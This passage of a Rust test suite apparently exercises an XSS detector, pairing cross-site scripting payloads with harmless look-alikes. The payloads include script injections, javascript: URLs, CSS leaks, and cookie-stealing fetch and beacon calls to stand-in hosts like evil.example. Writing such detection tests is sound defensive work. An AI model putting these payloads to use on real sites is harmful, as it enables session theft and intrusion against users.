        "<p><iframe src=\"https://www.youtube.com/embed/abc123\" width=\"560\" height=\"314\" allowfullscreen=\"allowfullscreen\"></iframe></p>",
        "<iframe class=\"ql-video\" frameborder=\"0\" allowfullscreen=\"true\" src=\"https://www.youtube.com/embed/xyz\"></iframe>",
        "<iframe src=\"https://player.vimeo.com/video/1\" width=\"640\" height=\"360\" frameborder=\"0\" allow=\"autoplay; fullscreen; picture-in-picture\" allowfullscreen></iframe>",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

/// A scheme in an element's text is named, not linked: text loads nothing, and a value that
/// holds markup before it is not a URL. In a tag, or opening the value, it still counts.
#[test]
fn schemes_in_element_text_are_mentions() {
    for v in [
        "<p>attempting to load <code>./foo</code> from <code>data:text/javascript,import \"./foo\";</code> fails</p>",
        "<p>running <code>node --import 'data:text/javascript,import { register } from \"node:module\";' ./main.coffee</code></p>",
        "<li>Never paste <b>javascript:alert(document.cookie)</b> into the address bar.</li>",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "data:text/javascript,alert(1)",
        "javascript:alert(document.cookie)",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<p>x</p><a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>y</a>",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
        "url=javascript:alert(1)",
    ] {
        assert!(hit(v), "{v}");
    }
}

/// The vectorised class pass sees every byte a table look-up sees, at every position of a
/// block and in the tail, alone and mixed.
#[test]
fn class_pass_agrees_with_table_lookups() {
    let table = |b: &[u8]| {
        let m = b
            .iter()
            .fold(0u32, |m, &c| m | super::CLASS[usize::from(c)]);
        // the vector pass itself, at lengths `classes` leaves to the look-ups too
        #[cfg(target_arch = "x86_64")]
        if super::wide::available() {
            // SAFETY: `available` checked that this CPU has AVX2.
            assert_eq!(unsafe { super::wide::classes(b) }, m, "{b:?}");
        }
        m
    };
    let mut buf = [b'a'; 96];
    for x in 0..=255u8 {
        for at in [0, 1, 15, 16, 17, 31, 32, 33, 63, 64, 95] {
            buf.fill(b'a');
            buf[at] = x;
            for len in [31, 32, 33, 47, 48, 63, 64, 65, 96] {
                let b = &buf[..len];
                assert_eq!(
                    super::classes(b),
                    table(b),
                    "byte {x:#x} at {at}, len {len}"
                );
            }
        }
    }
    // pseudo-random mixes of every byte value
    let mut state = 0x2545_f491_4f6c_dd1du64;
    for len in 0..300 {
        let b: Vec<u8> = (0..len)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                // mostly letters, now and then any byte
                if state.is_multiple_of(7) {
                    (state >> 24) as u8
                } else {
                    b'a' + (state >> 40) as u8 % 26
                }
            })
            .collect();
        assert_eq!(super::classes(&b), table(&b), "{b:?}");
    }
}

#[test]
fn many_harmless_tags_do_not_hide_a_script() {
    for n in [130, 1000, 2300] {
        let v = format!("{}<script>alert(1)</script>", "<p></p>".repeat(n));
        assert!(detect(&v, Context::Param).is_some(), "{n} paragraphs");
        let v = format!("{}<base href=//evil.tld/>", "<li>".repeat(n));
        assert!(detect(&v, Context::Param).is_some(), "{n} items");
    }
}

/// Asserts each attack is found and each look-alike is not.
fn judge(attacks: &[&str], benign: &[&str]) {
    for v in attacks {
        assert!(hit(v), "missed {v:?}");
    }
    for v in benign {
        assert!(
            !hit(v),
            "false positive {v:?} {:?}",
            detect(v, Context::Param)
        );
    }
}

#[test]
fn framework_event_reaches_the_window_through_event_view() {
    judge(
        &[
            "<x ng-blur=\"$event.view.alert(1)\" tabindex=1 autofocus>x</x>",
            "<div ng-app ng-csp><div ng-click=$event.view.alert(1)>click</div></div>",
            "<x data-ng-click=\"$event.view.alert(1)\">click</x>",
            "<x x-ng-click=\"$event.view.alert(1)\">click</x>",
            "<x ng:click=\"$event.view.alert(1)\">click</x>",
            "<x ng_click=\"$event.view.alert(1)\">click</x>",
            "<x v-on:mouseover=\"$event.view.eval($event.view.name)\">x</x>",
            "<div x-data><div x-on:click=\"$event.view.alert(1)\">x</div></div>",
            "<x @click=\"$event.view.alert(1)\">x</x>",
            "<x ng-dblclick=\"$event.view.location='//evil.tld/?'+$event.view.document.cookie\">x</x>",
            "<img src=x ng-on-error=\"$event.view.alert(1)\">",
            "<x ng-click=\"$event.view['alert'](1)\">x</x>",
            "<x v-on:click.prevent=\"$event.view.setTimeout('alert(1)')\">x</x>",
        ],
        &[
            "<button ng-click=\"save($event)\">Save</button>",
            "<li ng-repeat=\"x in items\" ng-if=\"user.isAdmin\">{{x}}</li>",
            "<a v-on:click=\"open = true\">menu</a>",
            "<a @click=\"location.href='/home'\">home</a>",
            "<x v-on:click=\"$event.view.scrollTo(0, 0)\">top</x>",
            "<input ng-model=\"user.name\" ng-change=\"validate($event.target.value)\">",
        ],
    );
}

#[test]
fn a_number_then_an_operator_hides_no_call() {
    judge(
        &[
            "1-alert(1)",
            "1,alert(1)",
            "1?alert(1):0",
            "1 in alert(1)",
            "1-top.alert(1)",
            "1,top.alert(1)",
            "1-eval(name)",
            "1/alert(1)",
            "0x1f|alert(1)",
            "1.5e3 * alert(1)",
            "1-2-alert(1)",
            "1-alert?.(1)",
            "1 === alert(1)",
            "true&&alert(1)",
            "null||alert(1)",
            "1)-alert(1)//",
            "1]-alert(1)//",
        ],
        &[
            "1-2",
            "3 - f(x)",
            "1, alert me",
            "5 in total",
            "1 - confirm(your attendance)",
            "2 + print(x)",
            // SyntaxErrors: nothing in the script runs
            "1--alert(1)",
            "5in alert(1)",
            "12 // alert(1)",
            "true story - confirm(your seat) soon",
            "null and void",
            "1) alert(s) list",
        ],
    );
}

#[test]
fn a_string_literal_then_an_operator_hides_no_call() {
    // reflected unquoted into code (`var a = …;`, `f(…)`): the literal is an operand and
    // the call after the comma or operator runs
    judge(
        &[
            "'',alert(1)",
            "\"\",alert(1)",
            "'',fetch('//e.example/'+document.cookie),'",
            "'a'-alert(1)-'",
            "\"x\" || top.alert(1)",
            "'',\"\",alert(1)",
            "'it\\'s',alert(1)",
            "''),alert(1)//",
        ],
        &[
            "'a', 'b', 'c'",
            "\"Smith, John\",\"alert(1)\"",
            "\"Hello\", alert me",
            "'quoted' - confirm(your seat) soon",
            "\"title\" - print(x)",
            "\"a\"; b()",
            "'open\nquote',alert(1)",
        ],
    );
}

#[test]
fn a_closed_literal_called_or_indexed_runs_its_arguments() {
    judge(
        &[
            "`(alert(1))//",
            "`[alert(1)]//",
            "'.concat(alert(1))//",
            "'(alert(1))//",
            "\"(alert(1))//",
            "'.at(alert(1))//",
        ],
        &[
            "it's (alert me) ok",
            "\"(see below)\" he said",
            "use `(x)` and `[y]` here",
            "'.concat(a, b)' joins strings",
        ],
    );
}

#[test]
fn htmx_knockout_and_jquery_loaders() {
    judge(
        &[
            "<div hx-get=\"https://attacker.tld/x\" hx-trigger=\"load\" hx-swap=\"outerHTML\"></div>",
            "<div hx-get=\"//evil.tld/x\" hx-trigger=\"load delay:1s\"></div>",
            "<div data-hx-get=\"//evil.tld/x\" data-hx-trigger=\"revealed\"></div>",
            "<div data-bind=\"event:{mouseover:function(){alert(1)}}\">x</div>",
            "<div data-bind=\"click: function(){ alert(document.domain) }\">x</div>",
            "';$.getScript('//evil.tld/x.js')//",
            "$.getScript('//evil.tld/x.js')",
        ],
        &[
            // the page's own endpoint, or a request the user makes by clicking
            "<div hx-get=\"/api/items\" hx-trigger=\"load\"></div>",
            "<div hx-get=\"https://evil.tld/x\" hx-trigger=\"click\"></div>",
            "<div data-bind=\"text: name, click: save\">x</div>",
            "<div data-bind=\"event: { mouseover: showTip }\">x</div>",
            "$('#id').on('click', go)",
            "$.ajax({url:'/api'})",
        ],
    );
}

#[test]
fn an_xml_document_owns_its_body_element() {
    judge(
        &[
            "<p>x</p><body>hi</body>",
            "<div><body>x</body></div>",
            "<note>hi</note><body>x</body><note>y</note>",
            "<note><body onload=alert(1)>hi</body></note>",
        ],
        &[
            "<note><to>Tove</to><from>Jani</from><heading>Reminder</heading>\
             <body>Don't forget me this weekend!</body></note>",
            "<?xml version=\"1.0\"?>\n<note><body>hi</body></note>",
            "<soap:Envelope><soap:Header/><soap:Body><x/></soap:Body></soap:Envelope>",
        ],
    );
}

#[test]
fn prose_and_safe_navigation_that_look_like_code() {
    judge(
        &[
            "';atob(x);alert(1)//",
            "location.href = '//evil.tld/?' + document.cookie",
            "window.location.href = '/' + '/evil.tld';",
            "location.href = 'javascript:' + name",
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "<a href=\"data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E\">x</a>",
        ],
        &[
            // a word after the call's `)` is a SyntaxError
            "atob() decodes base64; btoa() encodes it.",
            // a data: URL needs the `,` before its data
            "Data: text/html files are accepted",
            // a block holding one name runs nothing
            "In React, use onClick={handleClick} rather than a string.",
            // appending to a path of the site keeps the navigation on the site
            "window.location.href = '/login?next=' + encodeURIComponent(path);",
            "location.hash = '#' + section.id;",
        ],
    );
}

#[test]
fn location_assigned_from_window_data() {
    judge(
        &[
            "location=name",
            "location = top.name",
            "location=location.hash.slice(1)",
            "location=document.referrer;",
        ],
        &[
            "location=Paris",
            "location=top",
            "location=named",
            "location=home&sort=name",
            "location=location.href",
        ],
    );
}

#[test]
fn handler_assigned_in_a_block() {
    // `{onerror=alert}throw 1`: the error handler set inside a block, then an exception
    // thrown to call it (XSS without parentheses)
    judge(
        &[
            "{onerror=alert}throw 1",
            "{onerror=eval}throw name",
            "{window.onerror=alert}throw 1",
            "{onerror=confirm};throw document.domain",
            "';{onerror=alert}throw 1;//",
            "if(1){onerror=alert}throw 1",
            "{onerror=print}throw 1",
            "{onerror=print};throw 1",
        ],
        &[
            "{level=alert}",
            "{severity=alert} disk almost full",
            "{type=alert}: {message}",
            "config {mode=alert}",
            "window.onerror = handler; // throw errors here",
            "Set onerror to a logger, then throw to test it",
        ],
    );
}

#[test]
fn unicode_line_terminators_start_code() {
    judge(
        &[
            "\u{2028}alert(1)//",
            "\u{2029}alert(1)//",
            "\u{2028}location=name//",
        ],
        &["line one\u{2028}line two", "\u{2028}alerts are sent daily"],
    );
}

#[test]
fn window_functions_where_javascript_is_read() {
    judge(
        &[
            "1?print():0",
            "void alert(1)",
            "1-open('//evil.example/p')-1",
            "open('//evil.example/phish')",
            "open(\"https://evil.example/login\")",
            "open('javascript:alert(1)')",
        ],
        &[
            "print()",
            "print('hello')",
            "open('data.csv')",
            "open(name)",
            "with open('/etc/hosts') as f:",
            "void main() {}",
            "void print() const;",
            "void print();",
            "2 + print(x)",
        ],
    );
}

#[test]
fn harmless_browser_calls_with_literals() {
    // literals and plain variables passed to members that are no sink, the result at most
    // read: nothing reaches the browser's code, markup, navigation or network
    judge(
        &[
            "document.getElementById('x').innerHTML=name",
            "document.querySelector('form').action='//evil.example'",
            "navigator.serviceWorker.register('/uploads/sw.js')",
            "window.postMessage(document.cookie,'*')",
            "window.postMessage(name,'*')",
            "document.title=document.cookie",
            "location.protocol='javascript'",
            "location.replace(u)",
            "window.onload=alert",
            "window.onerror=eval;throw name",
            "setTimeout(()=>alert(1),0)",
            "setTimeout(function(){alert(1)},0)",
            "setTimeout('alert(1)',0)",
            "fetch('//evil.example/?'+document.cookie)",
            "fetch('/api').then(r=>r.text()).then(t=>fetch('//evil.example/'+t))",
            "fetch(name)",
            "fetch(u,{method:'POST',body:document.cookie})",
            "fetch(location.hash.slice(1))",
        ],
        &[
            "window.scrollTo(0, 0)",
            "document.getElementById('main')",
            "document.getElementById('email').value",
            "navigator.clipboard.writeText(text)",
            "document.title = 'Home'",
            "window.onload = init;",
            "setTimeout(() => refresh(), 1000);",
            "fetch('/api/users').then(r => r.json())",
            "const res = await fetch(url);",
        ],
    );
}

#[test]
fn tags_named_in_prose() {
    judge(
        &[
            "<script>alert(1)</script>",
            "<script>",
            "x <script>alert(1)//",
            "<script src=//evil.example/x.js>",
            "<title>",
            "\"><textarea>",
            "<iframe src=//evil.example>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "x </script><script>alert(1)</script>",
            "</script><svg onload=alert(1)>",
        ],
        &[
            "How do I use <script> tags in HTML?",
            "Put the <script> tag at the end of <body>",
            "<script> vs <script defer> vs <script async>",
            "<title> should be under 60 characters",
            "<textarea> is resizable by default",
            "<noscript> fallback for users without JS",
            "The <iframe> element embeds another page",
            "The </script> sequence ends the script block",
            "How to escape </script> inside a JS string?",
        ],
    );
}

#[test]
fn ids_that_clobber_the_document() {
    judge(
        &[
            "<img id=currentScript src=//evil.example/x.js>",
            "<img name=getElementById><img name=cookie>",
            "<a id=__proto__ name=src href=//evil.example/x.js>",
            "<form name=\"querySelector\">",
        ],
        &[
            "<a name=\"top\">Top</a>",
            "<input name=location placeholder=\"City\">",
            "<div id=\"main-body\">x</div>",
            "<img name=body src=a.png>",
            "<h2 id=\"currentscript\">document.currentScript</h2>",
        ],
    );
}

#[test]
fn element_methods_called_from_a_handler() {
    judge(
        &[
            "insertAdjacentHTML('beforeend',name)",
            "\" onfocus=\"insertAdjacentHTML('afterend',location.hash)",
        ],
        &[
            "el.insertAdjacentHTML('beforeend', html)",
            "Use insertAdjacentHTML() rather than innerHTML when appending.",
        ],
    );
}

#[test]
fn settled_text_needs_no_second_opinion() {
    use super::settled_text;
    for v in [
        "<https://example.com>",
        "[Click here](https://example.com)",
        "[docs](http://localhost:3000/guide)",
        "![cat](https://example.com/cat.jpg)",
        "![](https://cdn.example.org/img/logo.png)",
        "document.getElementById('main')",
        "document.title = 'Home'",
        "window.scrollTo(0, 0);",
    ] {
        assert!(settled_text(v), "{v:?}");
    }
    for v in [
        "<javascript:alert(1)>",
        "[x](javascript:alert(1))",
        "![x](javascript:alert(1))",
        "![x](https://a.example/x.png\"onerror=alert(1))",
        "![x](https://a.example/x.png) <img src=x onerror=alert(1)>",
        "!<https://example.com>",
        "!![x](https://example.com/a.png)",
        "[x](https://a.example/\"onmouseover=alert(1))",
        "[x](https://a.example/) <img src=x onerror=alert(1)>",
        "<https://a.example/><script>alert(1)</script>",
        "document.getElementById('x').innerHTML=name",
        "window.postMessage(document.cookie,'*')",
        "foo.bar(alert(1))",
        "console.log(document.cookie)",
        "document.title='a';alert(1)",
        "$event.view.alert(1)",
    ] {
        assert!(!settled_text(v), "{v:?}");
    }
}

#[test]
fn octal_escapes_and_nested_keywords() {
    for v in [
        "\\74script\\76alert(1)\\74/script\\76",
        "';document.write('\\074img src=x onerror=alert(1)\\076');'",
        "<scrscriptipt>alert(1)</scrscriptipt>",
        "<SCRSCRIPTIPT>alert(1)</SCRIPT>",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "<p>JavaScript tutorial</p>",
        "<b>Postscript</b> and descriptions",
        "C:\\74\\76\\notes",
        "\\7 and \\777",
        "<i>transcripts</i>",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

/// JavaScript names are case-sensitive: `Alert`, `ALERT`, `Prompt` are no browser API, so a
/// title or product name shaped like a call runs nothing. HTML tag and attribute names and
/// URL schemes are case-insensitive, and VBScript's `MsgBox` is read in any case.
#[test]
fn script_names_keep_their_case() {
    for v in [
        "Alert(1) - Season 1 Episode 1",
        "ALERT(1)",
        "Prompt(1)",
        "CONFIRM(2) steps",
        "Eval(2024) results",
        "Fetch(3) - the dog's game",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "alert(1)",
        "';alert(1)//",
        "<svg onload=alert(1)>",
        "\" ONLOAD=alert(1) x=\"",
        "<SCRIPT>ALERT(1)</SCRIPT>",
        "<IMG SRC=JaVaScRiPt:alert(1)>",
        "JAVASCRIPT:alert(1)",
        "vbscript:MSGBOX(1)",
        "setTimeout('alert(1)')",
        "document.write('<img src=x onerror=alert(1)>')",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

/// Script and style that act without a sink call the location-independent rules knew:
/// locations without the ML stage (cookies, User-Agent, Referer, other headers) rely on
/// these. A URL built from `document.cookie`, the `Function` constructor as a template tag,
/// a CSS keyword split by an escape, a CSS rule that fetches an outside URL by an input's
/// value.
#[test]
fn statements_and_styles_without_a_sink_call() {
    for v in [
        "x=new XMLHttpRequest();x.open('GET','//evil/'+document.cookie);x.send()",
        "new Image().src=\"https://evil.example/c?\"+escape(document.cookie)",
        "location='http://evil.example/?c=' + document.cookie",
        "new Function`alert\\`1\\``",
        "Function`alert\\x281\\x29```",
        "w\\idth:expr\\ession(alert(1))",
        "x:exp\\ression(alert(1))",
        "red;}input[name=csrf][value^=a]{background:url(//evil.tld/a)}",
        "<style>input[value^=\"a\"]{background:url(https://evil.tld/?a)}</style>",
        "Function`a${`alert(1)`}```",
        "window?.alert?.(1)",
        "window?.alert(1)",
        "top?.[\"alert\"](document.domain)",
        "window.alert?.(1)",
        "Function`x${'alert(document.domain)'}```",
        "new Function`${\"alert(1)\"}`",
        "data:application/x-javascript,alert(1)",
        "data:text/x-javascript,alert(1)",
        "data:application/x-ecmascript,alert(1)",
        "\";}body{background:url(//evil.tld/leak?",
        "a{background:url('https://x.example/?",
        "red}} .x { background-image: url(\"http://evil.example/c?",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "var share = 'https://example.com/?t=' + document.title",
        "console.log('cookies: ' + document.cookie)",
        "the `Function` constructor compiles a string",
        "new Function`return 1`",
        "see C:\\expression\\files",
        "a[href^=\"http\"]{background:url(https://cdn.example.com/ext.png)}",
        "input[value^=a]{border:1px solid red}",
        "Function`Hello ${name}, you have ${count} messages`",
        "user?.name ?? 'guest'",
        "config?.items?.map(render)",
        "is it ok?.5 mg twice a day",
        "cart?.items?.push(item)",
        "new Function`return ${a} + ${'b'}`",
        "background:url(/img/a.png)",
        "font-family: \"Segoe UI\"; color: red",
        ".hero{background:url(https://cdn.example.com/a.png)}",
        "background:url('https://cdn.example.com/a.png",
        ".a{background:url(/img/a.png",
        "body { color: red } see url(https://example.com/?",
        "{\"next\": \"https://example.com/?q=url(https://x\"",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn script_tag_words_in_a_search_are_prose() {
    judge(
        &[
            "<script tags>",
            "<script src=//evil.example/x.js>",
            "<script>alert(1)</script>",
            "<script tags>alert(1)</script>",
            "https://example.com/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        ],
        &[
            "https://example.com/search?q=%3Cscript+tags%3E+explained",
            "<script tags> explained",
            "https://www.google.com/search?q=%3Cscript%3E+tag+meaning",
            "<script element> in the head or the body?",
        ],
    );
}

#[test]
fn inert_void_link_script_followed_by_words() {
    judge(
        &[
            "javascript:void(0);alert(1)",
            "javascript:void(0), name",
            "javascript:void(0);name",
            "javascript:void(0) ?? name",
            "javascript:void(0)\nname",
            "javascript:void(0) || alert(1)",
            "javascript:void(0) in x ? name : 0",
        ],
        &[
            "javascript:void(0) in href is bad practice?",
            "javascript:void(0) meaning",
            "javascript:void 0 vs #",
        ],
    );
}

#[test]
fn escaped_bare_tag_is_text() {
    judge(
        &[
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&lt;script src=//evil.example/x.js&gt;",
            "&lt;img src=x onerror=alert(1)&gt;",
            "<script>",
        ],
        &["&lt;script&gt;", "&lt;iframe&gt;"],
    );
}

#[test]
fn sink_handed_to_a_method_or_jsonp_callback() {
    judge(
        &[
            "Promise.resolve(1).then(alert)",
            "x.then(alert)",
            "arr.forEach(alert)",
            "p.then(null, eval)",
            "[1].map(alert)",
            "setTimeout(alert)",
            "?jsonp=alert",
            "callback=alert",
            "/api/users?id=1&callback=alert&_=1",
            "jsonpCallback=confirm.call",
            // every spelling of the callback names, in any case
            "?CB=alert",
            "?jsonp_cb=alert",
            "?CallbackName=alert",
            "?JSONP=alert",
            "?x=1;my_callback=alert",
        ],
        &[
            "alert the team",
            "then(alert)",
            "Use promise.then(alert) to show it",
            "urls.map(fetch)",
            "parts.map(atob)",
            "promise.then(handleData)",
            "callback=handleData",
            "?jsonp=parseResponse",
            "alertcallback=1",
            "callback=alerts",
        ],
    );
}

#[test]
fn attribute_break_into_an_iframe() {
    judge(
        &[
            "'\"><iframe src=\"https://evil.tld\" style=\"position:fixed;width:100%;height:100%\">",
            "\"><iframe src=https://evil.example>",
            "x' /><iframe src=\"https://evil.example/login\"></iframe>",
        ],
        &[
            "<p><iframe src=\"https://www.youtube.com/embed/x\" width=\"560\"></iframe></p>",
            "<img src=\"a.png\"><iframe src=\"https://www.youtube.com/embed/x\"></iframe>",
            "<iframe src=\"https://www.youtube.com/embed/x\" width=\"560\" height=\"315\"></iframe>",
            "The <iframe> element embeds another page",
        ],
    );
}

#[test]
fn letters_that_case_mapping_turns_into_ascii() {
    judge(
        &[
            "<ſcript>alert(1)</ſcript>",
            "<scrİpt>alert(1)</scrİpt>",
            "<ımg src=x onerror=alert(1)>",
            "<img src=x onerror=alert(1)>",
        ],
        &[
            "İstanbul < Ankara in size? ılık hava",
            "Straße, ſ and ı are letters < 3 of them",
            "<p>İzmir</p>",
            "5 K < 10 K",
        ],
    );
}

#[test]
fn inert_link_script_in_an_attribute_of_markup() {
    judge(
        &[
            "<a href=\"javascript:alert(1)\">Menu</a>",
            "<a href=\"javascript:void(0)\">x</a>javascript:alert(1)",
            "<a href=\"javascript:void(0)\" onclick=\"alert(1)\">x</a>",
            "javascript:void(0)\">x<script>alert(1)</script>",
            "<a href=\"javascript:void(0);alert(1)\">x</a>",
            "<root><a probe=\"ja&amp;tab;vascript: \"></a></root>",
            "<a href=\"java\tscript:void(0)\">x</a>",
        ],
        &[
            "<a href=\"javascript:void(0)\">Menu</a>",
            "<a href=\"javascript:void(0);\" class=\"btn\">Open</a>",
            "<a href='javascript:;'>x</a>",
        ],
    );
}

#[test]
fn dangling_remote_url_attribute() {
    judge(
        &[
            "\"><img src='//evil.com/log?",
            "'><a href=\"https://evil.example/?",
            "<img src=\"http://evil.example/c?t=",
            "x\"><form><button formaction='//evil.example/",
            "\"><table background='//evil.example/?",
            "<a href='\\\\evil.example/x?",
            "</textarea><img src=\"https://evil.example/?",
        ],
        &[
            "<a href=\"https://example.com/\">x</a>",
            "<a href=\"/search?q=",
            "<img src='img/a.png",
            "He said \"see https://example.com/ for details",
            "<p title=\"https://example.com/?",
            "</a href='//x.example/",
            "<a href=\"https://example.com/\">link</a> and more text",
            "There's a pattern here. Here's a video: <a href=\"https://www.youtube.com/watch?v=",
            "Here's a video: <a href=\\x22https://www.youtube.com/watch?v=",
        ],
    );
}

#[test]
fn page_source_into_a_sink() {
    judge(
        &[
            "Function(name)()",
            "$('body').html(location.hash.slice(1))",
            "$(location.hash)",
            "jQuery(decodeURIComponent(location.hash.substr(1)))",
            "new WebSocket('//x').send(document.cookie)",
            "postMessage(document.cookie,'*')",
            "navigator.sendBeacon('//evil.example',document.cookie)",
            "$('#x').append(window.location.search)",
            "addEventListener('load',function(){eval(name)})",
        ],
        &[
            "$('#id').hide()",
            "use $(selector).html(content) to set the markup",
            "window.addEventListener('load', init)",
            "console.log(document.cookie)",
            "encodeURIComponent(location.href)",
            "$(name)",
            "CFLAGS=$(name) make",
            "the html(location) helper",
            "postMessage(data, origin)",
        ],
    );
}

#[test]
fn sink_stored_under_a_key_the_engine_calls() {
    for v in [
        "{toString:alert}+''",
        "{valueOf:alert}+''",
        "a={toString:alert};a+''",
    ] {
        assert!(detect(v, Context::Param).is_some(), "{v}");
    }
    for v in [
        "{toString:format}+''",
        "{\"level\":\"alert\"}",
        "{get: alerts}",
        "{title: alert}",
    ] {
        assert!(detect(v, Context::Param).is_none(), "{v}");
    }
}

#[test]
fn function_constructor_called_on_the_spot() {
    for v in [
        "Function(\"ale\"+\"rt(1)\")()",
        "Function('al'+'ert(1)')()",
        "Function(atob('YWxlcnQoMSk='))()",
        "new Function('al'+'ert(1)')()",
        "new  Function ('al'+'ert(1)')()",
        "x=1;Function('ale'+'rt(1)')()",
        "[].constructor.constructor('alert(1)')()",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Function(\"a\", \"return a\")",
        "Function()()",
        "Function.prototype.call",
        "myFunction('x')()",
        "renewFunction('a')()",
        "Function objects are created with Function('body')",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn remote_style_sheet_imports() {
    for v in [
        "@import \"//evil.tld/steal.css\";",
        "@import url(//evil.tld/x.css)",
        "@import 'https://evil.example/x.css';",
        "@IMPORT \"http://evil.example/a.css\" screen;",
        "@\\69mport \"//evil.example/a.css\";",
        "</style><style>@import '//evil.example/a.css';",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "@import url('/css/site.css')",
        "@import \"theme.css\"",
        "@import 'components/button';",
        "use @import in Sass",
        "@import: deprecated in Dart Sass, see https://sass-lang.com/d/import",
        "mail me at dev@imports.example.com",
        "Sass @import \"variables\"; then @use 'sass:math';",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn sink_member_read_and_dropped_is_no_write() {
    for v in [
        "document.getElementById('main').innerHTML",
        "document.getElementById('main').innerHTML;",
        "document.querySelector('#x').src",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "document.getElementById('main').innerHTML=location.hash",
        "document.getElementById('main').innerHTML='<img src=x onerror=alert(1)>'",
        "<script>",
        "<script src=\"https://cdn.jsdelivr.net/npm/bootstrap@5.3.0/dist/js/bootstrap.bundle.min.js\"></script>",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

/// Script-free markup that loads from or reports to another site: a frame fixed over the
/// viewport (a phishing overlay) and a link's `ping` beacon. An editor's embed (flowing,
/// or `absolute` in a responsive wrapper) and a plain link stay quiet.
#[test]
fn overlay_frames_and_ping_beacons() {
    for v in [
        "<iframe src=\"https://evil.example/phish\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:0\">",
        "<iframe src=https://evil.example/login style='POSITION : Fixed; inset:0; z-index:9999'></iframe>",
        "<a ping=//evil.example href=/>",
        "<a href=\"/docs\" ping=\"https://evil.example/track\">docs</a>",
        "<area shape=rect coords=0,0,9,9 href=/ ping=http://evil.example/c>",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "<div style=\"position:relative;padding-bottom:56.25%\"><iframe style=\"position:absolute;top:0;left:0;width:100%;height:100%\" src=\"https://www.youtube.com/embed/abc\" frameborder=\"0\" allowfullscreen></iframe></div>",
        "<p><iframe src=\"https://player.vimeo.com/video/1\" width=\"640\" height=\"360\" style=\"border:0\"></iframe></p>",
        "<p>See <a href=\"https://example.com/docs\">the docs</a> and <a href=\"/faq\">FAQ</a>.</p>",
        "<a href=\"/x\" ping=\"/analytics/click\">x</a>",
        "ping -c 4 example.com",
        "<p>The ping attribute of <a> sends a POST</p>",
    ] {
        assert!(!hit(v), "{v}");
    }
}

/// A `<link>` that pulls a sheet or script from another origin (or a scheme) is the
/// attacker's; one of the site's own paths styles the page as the site does.
#[test]
fn links_judged_by_the_origin_they_load() {
    for v in [
        "<link rel=import href=//evil.example/x.html>",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<link href=\"/\t/evil.example/a.css\" rel=stylesheet>",
        "<link rel=stylesheet href=\"data:text/css,*{x:y}\">",
        "<link rel=modulepreload href=http://evil.example/m.js>",
        "<link href=\"xss.js\" rel=stylesheet type=\"text/javascript\">",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "<link href=\"../css/style.css\" rel=\"stylesheet\">",
        "<link rel=\"stylesheet\" href=\"/static/app.css?v=2\">",
        "<link rel=preload href=fonts/a.woff2 as=font>",
    ] {
        assert!(!hit(v), "{v}");
    }
}

/// A global indexed by a name concatenated from variables and called reaches a sink
/// whose name is never written; an index that is not called, or a local array, is data.
#[test]
fn globals_called_through_concatenated_names() {
    for v in [
        "a='al',b='ert',window[a+b](1)",
        "x='ale';y='rt';top[ x + y ](document.domain)",
        "self[a+b+c]`1`",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "items[i+1](x)",
        "window[a+b]",
        "frames[i + 1].postMessage",
        "total = price[a+b] * 2",
    ] {
        assert!(!hit(v), "{v}");
    }
}

/// A page that runs its URL's fragment or query as script strips the `#` or `?` before the
/// call; text after a `#` that names no sink (hashtags, colours, C directives) is no code.
#[test]
fn code_after_a_fragment_or_query_marker() {
    for v in [
        "#alert(1)",
        "?alert(1)",
        "#eval(name)",
        "#top.alert(document.domain)",
        "#alert`1`",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "#1 best seller",
        "#hashtag",
        "#define X(a)",
        "#include <stdio.h>",
        "#fff",
        "#section-2",
        "?page=2&sort=asc",
        "#main(args)",
    ] {
        assert!(!hit(v), "{v}");
    }
}

/// A JSONP callback name wrapping a sink's call, then a line comment that discards what the
/// endpoint appends: a script line. A call without the comment, or a URL after `)//`, is
/// judged as before.
#[test]
fn callback_wrapping_a_call_then_a_line_comment() {
    for v in [
        "jQuery1234_567(alert(1))//",
        "cb(alert(document.domain))// x",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "see (notes)//",
        "format(date)//",
        "(link)//example.com/alert(1)",
        "f(x)// returns alert text",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn framework_attributes_that_load_script() {
    judge(
        &[
            "<a data-remote=true data-method=get data-type=script href=//evil.example/x.js>x</a>",
            "<a href='https://cdn.evil.example/p.js' data-type='SCRIPT' data-remote>go</a>",
            "<form action=//evil.example/f data-remote=\"1\" data-type=jsonp><button>x</button></form>",
            "<div ng-include=\"'//evil.example/x.html'\"></div>",
            "<div data-ng-include=\"'partials/evil.html'\"></div>",
